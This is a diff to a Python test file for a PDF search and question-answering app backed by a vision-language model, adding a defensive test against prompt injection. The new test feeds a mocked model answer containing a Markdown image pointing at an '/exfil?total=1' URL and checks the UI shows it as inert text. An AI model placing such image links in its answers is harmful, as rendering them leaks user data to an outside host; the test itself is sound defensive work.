@@ -89,7 +89,7 @@ def test_search_shows_pages_with_highlights(ui_env: Path) -> None:
     _button(at, "Search").click().run()
     assert not at.exception
     assert len(_images(at)) == 3, "a thumbnail per page (the document has 3)"
-    assert "**refcard-a4.pdf** · page" in _text(at) and "matrix" in _text(at).lower()
+    assert "**1. refcard-a4.pdf** · page" in _text(at) and "relevance" in _text(at), "ranked, with a relevance" and "matrix" in _text(at).lower()
     at.button(key="open-0").click().run()
     assert not at.exception and len(_images(at)) == 4, "the page opened large"
 
@@ -134,7 +134,7 @@ def test_ask_with_evidence_boxes_and_zoom(ui_env: Path, monkeypatch: pytest.Monk
         at.text_input[0].input("how do I invert a matrix")
         _button(at, "Ask").click().run()
         assert not at.exception, at.exception
-        assert any("Use inv()" in s.value for s in at.success)
+        assert any("Use inv" in s.value for s in at.success), "its words are backed by verified evidence"
         text = _text(at)
         assert "**verified** · page " in text and "**unverified** · page " in text
         assert "likely a hallucination" in text, "the legend"
@@ -206,7 +206,7 @@ def test_a_page_that_cannot_be_drawn_never_hides_the_other_hits(ui_env: Path) ->
     _button(at, "Search").click().run()
     assert not at.exception, at.exception
     assert len(_images(at)) == 1, "the other document's page is still shown"
-    assert "**alpha.pdf**" in _text(at) and "**beta.pdf**" in _text(at), "both hits are listed"
+    assert " alpha.pdf**" in _text(at) and " beta.pdf**" in _text(at), "both hits are listed"
     assert [w.value for w in at.warning if "cannot be shown" in w.value], "the missing page says why"
 
 
@@ -230,7 +230,7 @@ def test_jobs_page_shows_progress_and_cancels(ui_env: Path) -> None:
     _button(at, "Refresh").click().run()
     bars = {b.proto.text: b.value for b in at.get("progress")}
     running = next(t for t in bars if "running" in t)
-    assert bars[running] == 25 and "30/120 pages" in running and "big\\_&lt;b&gt;.pdf" in running
+    assert bars[running] == 25 and "30/120 pages" in running and "big\\_<b>.pdf" in running
     cancels = [b for b in at.main.button if b.label == "Cancel"]
     assert len(cancels) == 2
     cancels[1].click().run()  # newest first: the second is the running one
@@ -239,3 +239,23 @@ def test_jobs_page_shows_progress_and_cancels(ui_env: Path) -> None:
     assert svc.get_job("b" * 32).state == "queued"
     assert any("stopping" in b.proto.text for b in at.get("progress"))
     svc.close()
+
+
+def test_a_models_answer_is_text_and_green_only_when_its_values_are_verified(ui_env: Path,
+                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
+    """Prompt injection: an answer carrying a Markdown image must not make the browser fetch it; an answer whose
+    number is not in its verified evidence is not shown as a success (issue 17, item 4)."""
+    for srv in _with_vlm(monkeypatch):
+        at = _goto(_upload(_app(), PDFS / "refcard-a4.pdf"), "Ask")
+        srv.script = [ok(json.dumps({"found": True, "answer": "![x](http://127.0.0.1:9/exfil?total=1) see [here](http://x)",
+                                     "evidence": [{"page": 1, "quote": "inverse", "bbox_2d": None}]}))]
+        at.text_input[0].input("how do I invert a matrix")
+        _button(at, "Ask").click().run()
+        shown = [s.value for s in at.success] + [w.value for w in at.warning]
+        assert any("\\!\\[x\\]\\(http" in v for v in shown), shown  # inert text, not an image or a link
+        assert not any("![x](" in v for v in shown)
+        srv.script = [ok(json.dumps({"found": True, "answer": "The total is 0",
+                                     "evidence": [{"page": 1, "quote": "inverse", "bbox_2d": None}]}))]
+        _button(at, "Ask").click().run()
+        assert not [s.value for s in at.success if "total is 0" in s.value], "a 0 not in the evidence is not green"
+        assert any("not in the verified evidence" in w.value for w in at.warning)
